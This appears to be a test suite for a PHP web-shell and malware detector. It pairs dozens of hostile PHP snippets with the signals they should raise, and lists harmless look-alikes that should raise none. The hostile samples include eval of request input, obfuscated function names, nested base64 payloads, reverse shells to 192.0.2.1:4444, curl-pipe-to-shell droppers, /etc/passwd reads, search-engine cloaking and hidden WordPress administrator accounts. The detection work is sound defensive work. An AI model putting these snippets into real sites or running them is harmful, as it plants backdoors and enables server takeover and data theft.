import assert from 'node:assert/strict';
import { deflateRawSync } from 'node:zlib';
import { readPhp } from '../../../server/src/site/php/readPhp';
import type { SuspicionSignal } from '../../../server/src/site/php/phpFacts';
import { ASSERT, base64, DECODE, EVAL, GET, POST, signalsOf, SYSTEM, word } from './support';

const INPUT = `${POST}['a']`;
const INFLATE = word('gzin', 'flate');
const CREATE = word('create', '_function');
const UPLOADED = word('move_uploaded', '_file');

describe('suspicions', () => {
  const strong: [signal: SuspicionSignal, code: string][] = [
    ['codeFromRequest', `@${EVAL}(${INPUT});`],
    ['codeFromRequest', `$x = stripslashes(${INPUT}); ${EVAL}("\\$y = $x;");`],
    ['codeFromRequest', `function f($c) { ${EVAL}($c); } f(${DECODE}(${INPUT}));`],
    [
      'codeFromRequest',
      `class A { private $c; function __construct($c) { $this->c = $c; } function r() { ${EVAL}($this->c); } } $a = new A(${INPUT}); $a->r();`,
    ],
    ['codeFromRequest', `${ASSERT}(${INPUT});`],
    ['codeFromRequest', `$f = ${CREATE}('', ${INPUT});`],
    ['codeFromRequest', `preg_replace('/.*/e', ${INPUT}, '');`],
    ['codeFromRequest', `array_map('${ASSERT}', array(${INPUT}));`],
    ['codeFromRequest', `call_user_func(${INPUT}, ${GET}['b']);`],
    ['codeFromRequest', `${INPUT}(${GET}['b']);`],
    ['codeFromRequest', `foreach (${POST} as $k => $v) { $$k = $v; } $fn($arg);`],
    ['codeFromRequest', `extract(${POST}); ${EVAL}($c);`],
    ['codeFromRequest', `${EVAL}(file_get_contents('php://input'));`],
    ['codeFromRequest', `$h = getallheaders(); ${EVAL}($h['X']);`],
    ['codeFromRequest', `session_start(); $_SESSION['p'] = ${INPUT}; ${EVAL}($_SESSION['p']);`],
    ['codeFromRequest', `if (isset($_SESSION['p'])) ${EVAL}($_SESSION['p']); else $_SESSION['p'] = ${INPUT};`],
    [
      'codeFromRequest',
      `class A { function __invoke($f) { $f(1); } function __construct($f) { $this($f); } } new A(${INPUT});`,
    ],
    ['codeFromRequest', `ob_start(function ($x) { ${EVAL}($x); }); echo 1;`],
    ['codeFromRequest', `$r = new ReflectionFunction(${INPUT}); $r->invoke(1);`],
    ['codeFromRequest', `${EVAL}(\${'_' . 'PO' . 'ST'}['a']);`],
    ['codeFromRequest', `include 'php://input';`],
    ['codeFromRequest', `parse_str($_SERVER['QUERY_STRING']); $a($b);`],
    ['codeFromRequest', `$f = foo(); extract($_REQUEST); $f($x);`],
    ['codeFromRequest', `uasort(${POST}, '${ASSERT}');`],
    ['codeFromRequest', `$a = new ArrayObject([1, 2]); $a->uasort('${ASSERT}');`],
    ['codeFromRequest', `$s->fetchAll(PDO::FETCH_FUNC, '${ASSERT}');`],
    ['codeFromRequest', `filter_var(${INPUT}, FILTER_CALLBACK, ['options' => '${ASSERT}']);`],
    ['codeFromRequest', `preg_replace(${GET}['a'], ${GET}['b'], ${GET}['c']);`],
    ['decodedCode', `$e = exif_read_data('a.jpg'); preg_replace($e['Make'], $e['Model'], '');`],
    ['codeFromRequest', `class A { static function r($x) { ${EVAL}($x); } } call_user_func('A::r', ${INPUT});`],
    ['codeFromRequest', `class A { static function r($x) { ${EVAL}($x); } } $f = ['A', 'r']; $f(${INPUT});`],
    ['codeFromRequest', `class A { function __call($n, $a) { ${EVAL}($a[0]); } } (new A)->go(${INPUT});`],
    [
      'codeFromRequest',
      `class A { public $c; function __destruct() { ${EVAL}($this->c); } } unserialize($_COOKIE['a']);`,
    ],
    ['codeFromRequest', `trait T { function r($a) { ${EVAL}($a); } } class A { use T; } (new A)->r(${INPUT});`],
    ['codeFromRequest', `${EVAL}(end(current(get_defined_vars())));`],
    ['codeFromRequest', `$f = get_defined_functions()['internal'][${INPUT}]; $f(1);`],
    [
      'commandFromRequest',
      `class A { function __construct(private string $c) {} function r() { ${SYSTEM}($this->c); } } (new A(${INPUT}))->r();`,
    ],
    ['commandFromRequest', `$f = ${SYSTEM}(...); $f(${INPUT});`],
    ['commandFromRequest', `function g() { yield ${INPUT}; } foreach (g() as $x) ${SYSTEM}($x);`],
    ['commandFromRequest', `$db->createFunction('f', '${SYSTEM}');`],
    ['commandFromRequest', `ob_start('${SYSTEM}'); echo 'id';`],
    [
      'hiddenFunctionName',
      `class A { const a = 'sys'; const b = 'tem'; } $r = new ReflectionClass('A'); $f = $r->getConstant('a') . $r->getConstant('b'); $f('id');`,
    ],
    [
      'hiddenFunctionName',
      `/** x */ class A {} $f = substr((new ReflectionClass('A'))->getDocComment(), 4, 1); $f(${INPUT});`,
    ],
    ['codeFromRequest', `new CallbackFilterIterator($list, '${ASSERT}');`],
    ['codeFromRequest', `preg_replace_callback('/.+/', ${CREATE}('$m', 'return ${ASSERT}($m[0]);'), ${INPUT});`],
    ['decodedCode', `$d = file_get_contents('logo.png'); ${EVAL}(substr($d, strpos($d, '##')));`],
    [
      'droppedCode',
      `$t = filemtime($f); $c = file_get_contents($f); file_put_contents($f, '<?php ' . $code . ' ?>' . $c); touch($f, $t);`,
    ],
    ['droppedCode', `file_put_contents($f, file_get_contents($f) . ${DECODE}(${INPUT}));`],
    [
      'cloaking',
      `function get($u) { $c = curl_init($u); return curl_exec($c); } $h = get('http://192.0.2.1/?agent=' . $_SERVER['HTTP_USER_AGENT']); echo $h;`,
    ],
    ['commandFromRequest', `${SYSTEM}(${INPUT});`],
    ['commandFromRequest', `echo \`{${INPUT}}\`;`],
    ['commandFromRequest', `$p = popen('ls ' . ${INPUT}, 'r');`],
    ['commandFromRequest', `array_map('${SYSTEM}', ${POST});`],
    ['commandFromRequest', `$c = ${GET}['c']; if ($c) { ob_start(); ${SYSTEM}($c . ' 2>&1'); }`],
    ['decodedCode', `${EVAL}(${DECODE}('${base64('echo 1; // nothing to see here')}'));`],
    ['decodedCode', `${EVAL}(${INFLATE}(${DECODE}('${deflateRawSync('echo 1;').toString('base64')}')));`],
    ['decodedCode', `$s = file_get_contents(__FILE__); ${EVAL}(${DECODE}(substr($s, 99)));`],
    ['hiddenFunctionName', `$f = 'ass' . 'ert'; $f('1');`],
    ['hiddenFunctionName', `$f = chr(115) . "\\x79\\163" . 'tem'; $f('id');`],
    ['hiddenFunctionName', `$f = strrev('metsys'); $f('id');`],
    ['hiddenFunctionName', `$_ = []; $_ = "$_"; $_ = $_[0]; $a = $_; for (;;) $a++; $a($x = ${INPUT});`],
    ['hiddenFunctionName', `uasort($list, 'ass' . 'ert');`],
    ['hiddenFunctionName', `function f($v, $k) { $x = $k . $v; $x(1); } $a = ['ass' => 'ert']; array_walk($a, 'f');`],
    ['hiddenFunctionName', `Closure::fromCallable(join(array_diff(['s', 'a', 'ys', 'tem'], ['a'])))->__invoke('id');`],
    [
      'hiddenFunctionName',
      `$t = 'abdest6_o4c'; $f = $t[1] . $t[0] . $t[4] . $t[3] . $t[6] . $t[9] . $t[7] . $t[2] . $t[3] . $t[10] . $t[8] . $t[2] . $t[3]; $f('');`,
    ],
    ['payloadInPayload', `${EVAL}(${DECODE}('${base64(`${EVAL}(${INPUT});`)}'));`],
    ['payloadInPayload', `$code = '${base64(`<?php ${' '.repeat(120)} ${EVAL}(${INPUT}); ?>`)}'; store($code);`],
    ['payloadInPayload', `$perl = '${base64(`#!/usr/bin/perl\n${'# '.repeat(120)}`)}'; store($perl);`],
    ['includeFromRequest', `include ${GET}['p'];`],
    ['includeFromRequest', `$p = ${GET}['p']; require_once($p . '.php');`],
    ['fileWrittenFromRequest', `file_put_contents('x.php', ${INPUT});`],
    ['fileWrittenFromRequest', `$f = fopen('x.php', 'w'); fwrite($f, ${DECODE}(${INPUT}));`],
    ['droppedCode', `file_put_contents('x.php', file_get_contents('http://192.0.2.1/a.txt'));`],
    ['bareUploader', `${UPLOADED}($_FILES['f']['tmp_name'], './' . $_FILES['f']['name']);`],
    ['bareUploader', `${UPLOADED}($_FILES['f']['tmp_name'], 'x.php');`],
    ['droppedCode', `file_put_contents('a.php', '<?php ${SYSTEM}($_GET["c"]); ?>');`],
    ['droppedCode', `$f = fopen('../a.php', 'w'); fputs($f, ${DECODE}('${base64('<?php echo 1;')}'));`],
    ['droppedCode', `$h = fopen('a.php', 'w'); curl_setopt($c, CURLOPT_FILE, $h); curl_exec($c);`],
    ['droppedCode', `file_put_contents('.htaccess', "AddType application/x-httpd-php .jpg");`],
    ['droppedCode', `file_put_contents('/tmp/a', ${DECODE}('${base64('#!/usr/bin/perl -w')}'));`],
    [
      'droppedCode',
      `foreach (glob('*.php') as $f) { $c = file_get_contents($f); file_put_contents($f, '<?php ${EVAL}(${INPUT}); ?>' . $c); }`,
    ],
    ['codeFromRequest', `$t = tempnam('/tmp', 'x'); file_put_contents($t, ${INPUT}); include $t;`],
    ['codeFromRequest', `$f = fopen($t, 'w'); fwrite($f, ${DECODE}(${INPUT})); fclose($f); include($t);`],
    ['remoteCode', `file_put_contents($f, file_get_contents('http://192.0.2.1/' . $x)); require $f;`],
    ['codeFromRequest', `include 'data:text/plain;base64,' . $x;`],
    ['decodedCode', `include 'php://filter/convert.base64-decode/resource=logo.png';`],
    ['decodedCode', `include 'zip://a.jpg#x.php';`],
    ['decodedCode', `include "\\x2fhome\\x2fu\\x2f.a.ico";`],
    ['remoteCode', `${EVAL}(file_get_contents('http://192.0.2.1/a.txt'));`],
    ['remoteCode', `include 'http://192.0.2.1/a.txt';`],
    ['passwordGate', `if (md5(${INPUT}) === '${'0'.repeat(32)}') { go(); }`],
    ['massMailer', `foreach (explode("\\n", ${POST}['to']) as $to) mail($to, ${POST}['s'], ${POST}['m']);`],
    ['massMailer', `mail(${POST}['to'], ${POST}['s'], ${POST}['m'], ${POST}['h']);`],
    ['massMailer', `mail(${POST}['to'], 'Re: ' . ${POST}['s'], "{${POST}['m']}\\n", 'From: ' . ${POST}['f']);`],
    [
      'shellTools',
      `function r($c) { if (a()) return ${SYSTEM}($c); if (b()) return shell_exec($c); return passthru($c); }`,
    ],
    ['fileManager', `if (${GET}['d']) unlink(${GET}['d']); foreach (scandir(${GET}['l']) as $x) echo $x;`],
    ['networkShell', `$s = fsockopen('192.0.2.1', 4444); while (!feof($s)) fwrite($s, shell_exec(fgets($s)));`],
    ['systemProbe', `echo implode("\\n", file('/etc/passwd'));`],
    ['networkShell', `exec("/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'");`],
    ['networkShell', `$s = fsockopen('192.0.2.1', 4444); proc_open('/bin/sh -i', [$s, $s, $s], $pipes);`],
    ['droppedCode', `${SYSTEM}('wget http://192.0.2.1/a.txt -O b.php');`],
    ['droppedCode', `shell_exec('curl -s http://192.0.2.1/a | sh');`],
    ['shellTools', `putenv('LD_PRELOAD=/tmp/a.so'); mail('', '', '', '');`],
    ['commandFromRequest', `imap_open('{x -oProxyCommand=' . ${INPUT} . '}', '', '');`],
    ['commandFromRequest', `$f = FFI::cdef('int ${SYSTEM}(const char *c);'); $f->${SYSTEM}(${INPUT});`],
    ['commandFromRequest', `$s = ssh2_exec($connection, ${INPUT});`],
    ['commandFromRequest', `$x->registerPHPFunctions(); $x->query("//a[php:functionString('${SYSTEM}', 'id')]");`],
    [
      'codeFromRequest',
      `$xsl = '<xsl:value-of select="php:function(\\'${ASSERT}\\', string(.))"/>'; $p = new XSLTProcessor(); $p->registerPHPFunctions();`,
    ],
    ['systemProbe', `foreach (glob('/home/*/public_html/wp-config.php') as $f) echo $f;`],
    ['systemProbe', `$iis = new COM('IIS://localhost/w3svc');`],
    ['hiddenVariableName', `echo \${'_' . 'GET'}['a'];`],
    ['hiddenVariableName', `\${"\\x47LOBALS"}['a'] = 1;`],
    ['hiddenVariableName', `\${"\\x61"} = \${"\\x62"} = \${"\\x63"} = 1;`],
    [
      'cloaking',
      `$a = strtolower($_SERVER['HTTP_USER_AGENT']); if (strpos($a, 'googlebot') !== false) { echo file_get_contents('http://192.0.2.1/?h=' . $_SERVER['HTTP_HOST']); exit; }`,
    ],
    [
      'cloaking',
      `function bot() { return preg_match('/bing|yahoo/i', $_SERVER['HTTP_USER_AGENT']); } if (bot()) { $c = curl_init('http://192.0.2.1/'); $h = curl_exec($c); echo $h; }`,
    ],
    [
      'cloaking',
      `if (preg_match('/google/i', $_SERVER['HTTP_REFERER'])) { header('Location: http://198.51.100.1/'); exit; }`,
    ],
    ['cloaking', `echo file_get_contents('http://192.0.2.1/?agent=' . urlencode($_SERVER['HTTP_USER_AGENT']));`],
    [
      'adminAccess',
      `require '../wp-load.php'; $u = get_users(['role' => 'administrator']); wp_set_auth_cookie($u[0]->ID);`,
    ],
    ['adminAccess', `wp_insert_user(['user_login' => 'a', 'user_pass' => 'b', 'role' => 'administrator']);`],
    [
      'adminAccess',
      `add_action('pre_user_query', 'h'); function h($q) { $q->query_where = str_replace('WHERE 1=1', "WHERE 1=1 AND {$t}.user_login != 'a'", $q->query_where); }`,
    ],
    ['queryFromRequest', `$r = mysql_query(stripslashes(${INPUT}));`],
  ];
  for (const [signal, code] of strong) {
    it(`sees ${signal} in ${code.slice(0, 90)}`, () =>
      assert.ok(signalsOf(code, 'strong').includes(signal), String(signalsOf(code))));
  }

  const harmless: [why: string, code: string][] = [
    ['a switch over the request', `switch (${GET}['p']) { case 'a': include 'a.php'; break; }`],
    ['a checked page', `$p = ${GET}['p']; if (in_array($p, ['a', 'b'])) { include $p; }`],
    ['a page behind a fixed folder', `include 'pages/' . basename(${GET}['p']) . '.php';`],
    ['an escaped argument', `exec('convert ' . escapeshellarg(${INPUT}));`],
    ['a number', `exec('kill ' . (int) ${INPUT});`],
    ['a fixed command', `exec('git rev-parse HEAD', $out);`],
    [
      'an ordinary callback',
      `usort($list, 'compare'); array_map('trim', ${POST}); call_user_func([$this, 'run'], ${INPUT});`,
    ],
    ['an assertion', `${ASSERT}($x instanceof Foo); ${ASSERT}(is_string(${INPUT}));`],
    ['decoded data', `$data = json_decode(${DECODE}(${INPUT}), true); echo htmlspecialchars($data['a']);`],
    [
      'a picture in the code',
      `header('Content-Type: image/gif'); echo ${DECODE}('${'R0lGODlhAQABAIAAAAAAAP'.repeat(20)}');`,
    ],
    ['a dispatch table', `$do = ['a' => 'one', 'b' => 'two']; $do[${GET}['x']](1);`],
    ['a method name with a prefix', `$m = 'action' . ucfirst(${GET}['m']); $this->$m();`],
    [
      'a checked upload',
      `if (in_array(pathinfo($_FILES['f']['name'], 4), ['jpg'])) ${UPLOADED}($_FILES['f']['tmp_name'], 'up/' . md5(time()) . '.jpg');`,
    ],
    ['a cached template', `file_put_contents($f, '<?php return ' . var_export($list, true) . ';'); include $f;`],
    ['protection in a settings file', `file_put_contents('.htaccess', "Deny from all\n");`],
    ['an archive of programs', `include 'phar://tool.phar/autoload.php';`],
    [
      'pages for telephones',
      `if (preg_match('/iphone|android/i', $_SERVER['HTTP_USER_AGENT'])) header('Location: /m/');`,
    ],
    [
      'a count of robots',
      `if (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') !== false) count_robot(); echo $page;`,
    ],
    ['users who sign up', `$id = wp_create_user(${INPUT}, ${POST}['b']); $u->set_role(get_option('default_role'));`],
    ['a variable by its name', `foreach (['a', 'b'] as $n) { echo $$n; }`],
    [
      'a question for a version',
      `exec('curl --version', $out); exec('wget -q https://example.org/list.json -O list.json');`,
    ],
    ['a callback with a fixed ending', `$f = $conf['theme'] . '_startBlock'; extract($_REQUEST); $f($x);`],
    ['a pattern around what is searched', `preg_replace('/' . ${INPUT} . '/i', '<b>$0</b>', $text);`],
    [
      'a comment that is read',
      `$c = (new ReflectionClass($x))->getDocComment(); preg_match('/@var (\\w+)/', $c, $m); echo $m[1];`,
    ],
    ['a licence put before programs', `file_put_contents($f, '<?php ' . $licence . file_get_contents($f));`],
    ['a picture that is stored', `file_put_contents($f, ${DECODE}(${POST}['image']));`],
    ['a picture that is shown', `echo base64_encode(file_get_contents('logo.png'));`],
    ['a column that is asked for', `$s->fetchAll(PDO::FETCH_COLUMN, ${GET}['n']);`],
    ['a setting', `$f = get_option('page'); echo $f; include get_template_directory() . '/' . $f . '.php';`],
    ['a log file', `file_put_contents('log.txt', date('c') . ' ' . $_SERVER['REMOTE_ADDR'], FILE_APPEND);`],
    ['a comparison of passwords of users', `if (md5(${INPUT}) === $row['password']) login();`],
    [
      'a tool for the command line',
      `if (PHP_SAPI !== 'cli') exit; file_put_contents('a.php', file_get_contents('https://example.org/a'));`,
    ],
    [
      'a mail to a fixed address',
      `mail('info@example.jp', 'Contact', ${POST}['message'], 'From: ' . ${POST}['email']);`,
    ],
    ['an automatic reply', `mail(${POST}['email'], 'Thank you', "Dear {${POST}['name']},\\n" . ${POST}['message']);`],
    ['a newsletter from the database', `foreach ($rows as $row) mail($row['mail'], $subject, $body);`],
    ['a function name in a text', `echo '${EVAL}(${INPUT})';`],
  ];
  for (const [why, code] of harmless) {
    it(`sees nothing strong in ${why}`, () => assert.deepEqual(signalsOf(code, 'strong'), []));
  }

  it('gives the exact place and the code there', () => {
    const code = `<?php\n\n  echo 1; ${SYSTEM}(${INPUT});\n`;
    const [found] = readPhp(code).suspicions;
    const call = `${SYSTEM}(${INPUT})`;
    assert.deepEqual(
      { line: found!.line, column: found!.column, endColumn: found!.endColumn, excerpt: found!.excerpt },
      { line: 3, column: 11, endColumn: 11 + call.length, excerpt: call },
    );
  });

  it('shortens what it quotes', () => {
    const [found] = readPhp(`<?php ${SYSTEM}(${INPUT} . '${'x'.repeat(500)}');`).suspicions;
    assert.equal(found!.excerpt.length, 120);
  });

  it('sees code that lost its opening tag', () => {
    const code = `if (!defined("A")) { define("A", 1); }\n${SYSTEM}(${INPUT});`;
    assert.equal(readPhp(code).suspicions[0]?.line, 2);
  });

  it('takes an unset variable for the client’s only when the file has a form field of that name', () => {
    assert.deepEqual(signalsOf(`${SYSTEM}($command);`, 'strong'), []);
    assert.deepEqual(signalsOf(`echo '<input name="command">'; ${SYSTEM}($command);`, 'strong'), [
      'commandFromRequest',
    ]);
  });

  it('reads payloads within payloads', () => {
    let payload = `${SYSTEM}(${INPUT});`;
    for (let layer = 0; layer < 4; layer++) payload = `${EVAL}(${DECODE}('${base64(payload)}'));`;
    assert.ok(signalsOf(payload).includes('payloadInPayload'));
  });

  describe('of a part of a program', () => {
    const work: Record<string, string> = {
      'a command with the name of a file': `exec('gunzip ' . ${GET}['file'] . ' -c > /backup/a.sql');`,
      'a settings file that an installer writes': `file_put_contents('config.php', "<?php define('HOST', '" . ${INPUT} . "');");`,
      'a file chosen among those of a folder': `readfile('backup/' . ${GET}['file']); unlink('backup/' . ${GET}['old']);`,
    };
    for (const [what, code] of Object.entries(work)) {
      it(`tell of ${what} where the file stands alone`, () => assert.notDeepEqual(signalsOf(code), []));

      it(`say nothing of ${what} where it is one of a program’s`, () =>
        assert.deepEqual(signalsOf(`require 'includes/application_top.php'; ${code}`), []));
    }

    it('tell of what the client alone decides, and of hidden code, whatever the file includes', () => {
      const top = "require 'includes/application_top.php';";
      for (const code of [`${SYSTEM}(${INPUT});`, `${EVAL}(${INPUT});`, `include ${INPUT};`]) {
        assert.notDeepEqual(signalsOf(`${top} ${code}`), [], code);
      }
    });

    it('are not played down by including the site’s log-in or database', () => {
      const code = `exec('gunzip ' . ${GET}['file']);`;
      assert.notDeepEqual(signalsOf(`require '../wp-load.php'; ${code}`), []);
    });
  });
});
